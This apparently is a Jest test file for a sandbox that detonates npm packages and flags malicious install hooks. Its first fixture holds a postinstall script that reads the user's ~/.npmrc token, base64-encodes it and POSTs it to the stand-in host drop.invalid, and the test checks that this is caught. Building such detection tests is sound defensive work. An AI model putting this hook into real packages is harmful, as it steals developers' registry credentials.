import { detonationRange, type DetonationRange } from '../support/detonation';

// Two cages, one after the other, each with a strace: seconds where nothing else runs, more on a busy machine.
jest.setTimeout(240_000);

describe('detonation', () => {
  let range: DetonationRange;
  beforeAll(async () => {
    range = await detonationRange();
  });
  afterAll(() => range.cleanUp());

  it('holds a hook that posts ~/.npmrc', async () => {
    const { verdict, codes, trace, findings } = await range.npm(
      { scripts: { postinstall: 'node take.js' } },
      {
        'index.js': 'module.exports = 1;',
        'take.js': `
          const token = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');
          const body = Buffer.from(token).toString('base64');
          require('http').request({ host: 'drop.invalid', method: 'POST', path: '/in' }).end(body);`,
      },
    );

    console.log(JSON.stringify(trace, null, 1), findings);
    expect(verdict).toBe('malicious');
    expect(codes).toContain('detonation-canary-sent');
  });

  it('says nothing of an honest package', async () => {
    const { verdict, trace, findings } = await range.npm(
      { scripts: { postinstall: 'node -e "console.log(1)"' } },
      { 'index.js': 'module.exports = require("path").join("a", "b");' },
    );

    console.log(JSON.stringify(trace, null, 1), findings);
    expect(verdict).toBe('clean');
  });
});
